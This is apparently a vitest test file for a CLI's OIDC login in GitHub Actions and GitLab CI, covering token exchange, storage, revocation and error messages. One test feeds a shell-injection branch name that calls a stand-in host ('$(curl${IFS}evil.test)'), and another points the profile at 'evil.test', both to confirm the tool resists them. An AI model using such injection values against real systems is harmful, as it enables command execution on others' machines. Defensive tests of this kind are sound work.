import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Fetch } from '../../../src/client/http.ts';
import type { TestService } from '../../server/test-service.ts';
import { startTestService } from '../../server/test-service.ts';
import { createFakeIssuer, gitlabClaims } from '../../server/trusts/fake-issuer.ts';
import type { FakeIssuer } from '../../server/trusts/fake-issuer.ts';
import type { FakeWorldSettings } from '../../support/fake-world.ts';
import { runCommandLine } from '../../support/fake-world.ts';

const baseUrl = 'https://govctl.test';
const requestToken = 'the-token-of-the-request';

let service: TestService;
let github: FakeIssuer;
let gitlab: FakeIssuer;
beforeAll(async () => {
  const now = (): number => service.deps.clock.now();
  github = await createFakeIssuer(now);
  gitlab = await createFakeIssuer(now, { url: 'https://gitlab.com' });
  service = await startTestService({
    receive: (...sent) =>
      (sent[0].url.startsWith('https://gitlab.com') ? gitlab : github).send(...sent),
  });
  const common = { name: 'CI', ref: 'refs/heads/main', repository: 'acme/policies' };
  for (const provider of ['github', 'gitlab']) {
    const body = { ...common, provider, scopes: ['governance:read', 'compliance:write'] };
    await service.send('POST', '/v1/trusts', { body });
  }
});
afterAll(() => service.close());

let home: string;
beforeEach(() => (home = mkdtempSync(path.join(tmpdir(), 'govctl-oidc-'))));
afterEach(() => rmSync(home, { recursive: true, force: true }));

/** What the job of this test may do, and what was asked of whom: `POST /auth/token`. */
function network(claims: object = {}) {
  const asked: string[] = [];
  const fetch: Fetch = async (url, init) => {
    const { origin, pathname, searchParams } = new URL(url);
    asked.push(`${init.method} ${pathname}`);
    if (origin === baseUrl) return service.app.fetch(new Request(url, init), {});
    expect([origin, pathname]).toEqual(['https://actions.example.com', '/run/token']);
    expect(init.headers.authorization).toBe(`Bearer ${requestToken}`);
    expect(searchParams.get('api-version')).toBe('2.0');
    const aud = searchParams.get('audience');
    return Response.json({ count: 1, value: await github.sign({ ...claims, aud }) });
  };
  return { asked, fetch };
}

const job = {
  GITHUB_ACTIONS: 'true',
  GITHUB_REPOSITORY: 'acme/policies',
  GITHUB_REPOSITORY_ID: '74',
  GITHUB_REF: 'refs/heads/main',
  GITHUB_RUN_ID: '4711',
  GITHUB_RUN_ATTEMPT: '1',
  GITHUB_JOB: 'apply',
};
const githubJob = {
  ...job,
  ACTIONS_ID_TOKEN_REQUEST_URL: 'https://actions.example.com/run/token?api-version=2.0',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: requestToken,
};
const login = ['auth', 'login', '--oidc', '--base-url', baseUrl];

const run = (argv: readonly string[], { env, ...settings }: FakeWorldSettings) =>
  runCommandLine(argv, {
    cwd: home,
    now: () => service.deps.clock.now(),
    ...settings,
    env: { GOVCTL_CONFIG_DIR: path.join(home, 'config'), RUNNER_TEMP: path.join(home, 'temp'), ...env }, // prettier-ignore
  });

describe('auth login --oidc in GitHub Actions', () => {
  it('exchanges an ID token that GitHub signs for this service, and later commands use the access token', async () => {
    const { fetch, asked } = network();
    const outcome = await run(login, { fetch, env: githubJob });
    expect([outcome.exitCode, outcome.stderr]).toEqual([0, '']);
    expect(outcome.stdout).toContain(
      'Logged in to https://govctl.test with the ID token of the CI job: it can read 0 policies',
    );
    expect(outcome.stdout).toContain('Profile "default", stored in a file for this job.');
    expect(asked.slice(0, 2)).toEqual(['GET /run/token', 'POST /auth/token']);
    asked.length = 0;
    const list = await run(['policy', 'list'], { fetch, env: githubJob });
    expect([list.exitCode, asked]).toEqual([0, ['GET /v1/policies']]);
  });

  it('says in JSON what it got, without the token', async () => {
    const { stdout } = await run([...login, '-o', 'json'], { ...network(), env: githubJob });
    expect(JSON.parse(stdout)).toMatchObject({
      profile: 'default',
      base_url: baseUrl,
      method: 'oidc',
      stored_in: 'job',
      granted_scope: 'governance:read compliance:write',
      expires_at: '2026-03-01T12:15:00.000Z',
    });
    expect(stdout).not.toContain('gat_');
  });

  it('keeps the access token among the files of the job only, for its owner, and no secret besides', async () => {
    await run(login, { ...network(), env: githubJob });
    const file = path.join(home, 'temp', 'govctl', 'credentials', 'default.json');
    const kept = JSON.parse(readFileSync(file, 'utf8')) as object;
    expect(kept).toEqual({
      base_url: 'https://govctl.test',
      job: expect.stringContaining('4711'),
      token: {
        value: expect.stringMatching(/^gat_/),
        expires_at: '2026-03-01T12:15:00.000Z',
        scope: 'governance:read compliance:write',
      },
    });
    expect(readdirSync(path.join(home, 'config'))).toEqual(['profiles.json']);
    expect((await run(['auth', 'logout'], { ...network(), env: githubJob })).exitCode).toBe(0);
    expect(existsSync(file)).toBe(false);
  });

  it('ends the access token at the service with auth logout', async () => {
    const { fetch, asked } = network();
    await run(login, { fetch, env: githubJob });
    const token = (await run(['auth', 'token'], { fetch, env: githubJob })).stdout.trim();
    const ask = () =>
      service.send('GET', '/v1/policies', { key: null, headers: { authorization: `Bearer ${token}` } }); // prettier-ignore
    expect((await ask()).status).toBe(200);
    asked.length = 0;
    const { exitCode, stdout, stderr } = await run(['auth', 'logout', '-o', 'json'], {
      fetch,
      env: githubJob,
    });
    expect([exitCode, stderr, asked]).toEqual([0, '', ['POST /auth/revoke']]);
    expect(JSON.parse(stdout)).toMatchObject({ logged_out: ['default'], revoked: ['default'] });
    expect((await ask()).status).toBe(401);
  });

  it('says with auth logout that the token works on where the service is down', async () => {
    await run(login, { ...network(), env: githubJob });
    const fetch: Fetch = async () => new Response('', { status: 503 });
    const { exitCode, stderr } = await run(['auth', 'logout'], { fetch, env: githubJob });
    expect(exitCode).toBe(1);
    expect(stderr).toContain('could not be revoked at https://govctl.test');
    expect(stderr).toMatch(/Copies of the login remain valid until it expires\.\n$/);
  });

  it('sends nothing of another job, or to another service, with auth logout', async () => {
    await run(login, { ...network(), env: githubJob });
    const { fetch, asked } = network();
    const other = await run(['auth', 'logout', '-o', 'json'], {
      fetch,
      env: { ...githubJob, GITHUB_RUN_ID: '4712' },
    });
    expect([other.exitCode, other.stderr, asked]).toEqual([0, '', []]);
    expect(JSON.parse(other.stdout)).toMatchObject({ revoked: [] });
    await run(login, { ...network(), env: githubJob });
    const file = path.join(home, 'config', 'profiles.json');
    writeFileSync(file, readFileSync(file, 'utf8').replaceAll(baseUrl, 'https://evil.test'));
    await run(['auth', 'logout'], { fetch, env: githubJob });
    expect(asked).toEqual([]);
  });

  it('gives another job on the same machine nothing of its token', async () => {
    await run(login, { ...network(), env: githubJob });
    const { fetch, asked } = network();
    const other = await run(['policy', 'list'], {
      fetch,
      env: { ...job, GITHUB_REPOSITORY: 'mallory/x', GITHUB_RUN_ID: '4712' },
    });
    expect([other.exitCode, asked]).toEqual([4, []]);
    expect(other.stderr).toContain('id-token: write');
  });

  it('gets another access token where the job takes longer than the first', async () => {
    await run(login, { ...network(), env: githubJob });
    const { fetch, asked } = network();
    const later = service.deps.clock.now() + 880_000;
    const { exitCode } = await run(['policy', 'list'], { fetch, env: githubJob, now: () => later });
    expect(exitCode).toBe(0);
    expect(asked).toEqual(['GET /run/token', 'POST /auth/token', 'GET /v1/policies']);
  });

  it('asks for the scopes it is told to', async () => {
    const { stdout } = await run([...login, '--scope', 'governance:read', '-o', 'json'], {
      ...network(),
      env: githubJob,
    });
    expect(JSON.parse(stdout)).toMatchObject({ scope: 'governance:read', granted_scope: 'governance:read' }); // prettier-ignore
  });

  it.each([
    ['no variable', {}],
    ['only the address', { ACTIONS_ID_TOKEN_REQUEST_URL: 'https://actions.example.com/' }],
    ['only the token', { ACTIONS_ID_TOKEN_REQUEST_TOKEN: requestToken }],
  ])('says which permission is missing where GitHub sets %s', async (_, env) => {
    const { fetch, asked } = network();
    const { exitCode, stderr } = await run(login, { fetch, env: { ...job, ...env } });
    expect([exitCode, asked]).toEqual([4, []]);
    expect(stderr).toContain('This job has no permission to get an ID token from GitHub');
    expect(stderr).toContain('permissions: { contents: read, id-token: write }');
  });

  it('sends the token of the request to no address in the clear', async () => {
    const url = { ACTIONS_ID_TOKEN_REQUEST_URL: 'http://actions.example.com/' };
    const { fetch, asked } = network();
    const { exitCode } = await run(login, { fetch, env: { ...githubJob, ...url } });
    expect([exitCode, asked]).toEqual([3, []]);
  });

  it('says where GitHub gives no token, and shows nothing of the answer', async () => {
    const fetch: Fetch = async () => new Response('secret words', { status: 403 });
    const { exitCode, stderr } = await run(login, { fetch, env: githubJob });
    expect(exitCode).toBe(4);
    expect(stderr).toContain(
      'GitHub issued no ID token: https://actions.example.com returned HTTP 403',
    );
    expect(stderr).not.toContain('secret words');
  });

  it('says which claim keeps the job out, and the command that lets it in', async () => {
    const env = { ...githubJob, GITHUB_REF: 'refs/heads/dev' };
    const { exitCode, stderr } = await run(login, { ...network({ ref: 'refs/heads/dev' }), env });
    expect(exitCode).toBe(4);
    expect(stderr).toContain('ref is refs/heads/dev, not refs/heads/main');
    expect(stderr.replace(/\s+/g, ' ')).toContain(
      'govctl trust create acme/policies --repository-id 74 --ref refs/heads/dev --scope SCOPES',
    );
    expect(existsSync(path.join(home, 'temp'))).toBe(false);
  });

  it('repeats no branch name in a command that a shell would run', async () => {
    const ref = 'refs/heads/$(curl${IFS}evil.test)';
    const { stderr } = await run(login, {
      ...network({ ref }),
      env: { ...githubJob, GITHUB_REF: ref },
    });
    expect(stderr.replace(/\s+/g, ' ')).toContain('--ref REF --scope SCOPES');
  });
});

describe('auth login --oidc elsewhere', () => {
  const gitlabJob = { GITLAB_CI: 'true', CI_JOB_ID: '99', CI_PROJECT_PATH: 'acme/policies' };

  it('takes the ID token that GitLab gives the job', async () => {
    const token = await gitlab.sign(gitlabClaims);
    const { fetch, asked } = network();
    const env = { ...gitlabJob, GOVCTL_ID_TOKEN: token };
    const { exitCode, stdout } = await run(login, { fetch, env });
    expect([exitCode, asked[0]]).toEqual([0, 'POST /auth/token']);
    expect(stdout).toContain('the ID token of the CI job');
    asked.length = 0;
    expect((await run(['policy', 'list'], { fetch, env })).exitCode).toBe(0);
    expect(asked).toEqual(['GET /v1/policies']);
  });

  it('says what to write into the job where GitLab has given none', async () => {
    const { exitCode, stderr } = await run(login, { ...network(), env: gitlabJob });
    expect(exitCode).toBe(4);
    expect(stderr.replace(/\s+/g, ' ')).toContain(
      'id_tokens: { GOVCTL_ID_TOKEN: { aud: https://govctl.test } }',
    );
  });

  it('says of a machine that is no CI job that there is none', async () => {
    const { exitCode, stderr } = await run(login, { ...network(), env: {} });
    expect([exitCode, stderr]).toEqual([4, expect.stringContaining('this is not a CI job')]);
  });

  it('excludes other ways to log in', async () => {
    for (const more of [['--with-token'], ['--client-id', 'ci']]) {
      const { exitCode, stderr } = await run([...login, ...more], { env: githubJob });
      expect([exitCode, stderr]).toEqual([3, expect.stringContaining(`Use either ${more[0] ?? ''}`)]); // prettier-ignore
    }
  });
});

describe('GOVCTL_OIDC=1', () => {
  it('logs each command in by itself, with the scope it needs, and keeps nothing', async () => {
    const { fetch, asked } = network();
    const env = { ...githubJob, GOVCTL_OIDC: '1', GOVCTL_BASE_URL: baseUrl };
    const { exitCode, stdout } = await run(['auth', 'status', '-o', 'json'], { fetch, env });
    expect(exitCode).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({
      logins: [{ source: 'GOVCTL_OIDC', method: 'oidc', valid: true }],
    });
    expect(asked.slice(0, 2)).toEqual(['GET /run/token', 'POST /auth/token']);
    expect(readdirSync(home)).toEqual([]);
    await run(['policy', 'list'], { fetch, env });
    const { json } = await service.send('GET', '/v1/audit-log?limit=1');
    expect(json.audit_log).toMatchObject([{ action: 'token.issue' }]);
  });

  it('comes after other logins of the environment, and is off where it says so', async () => {
    const { fetch, asked } = network();
    const env = { ...githubJob, GOVCTL_BASE_URL: baseUrl };
    const token = { GOVCTL_TOKEN: service.key, GOVCTL_OIDC: '1' };
    await run(['policy', 'list'], { fetch, env: { ...env, ...token } });
    expect(asked).toEqual(['GET /v1/policies']);
    const off = await run(['policy', 'list'], { fetch, env: { ...env, GOVCTL_OIDC: '0' } });
    expect(off.exitCode).toBe(4);
  });
});
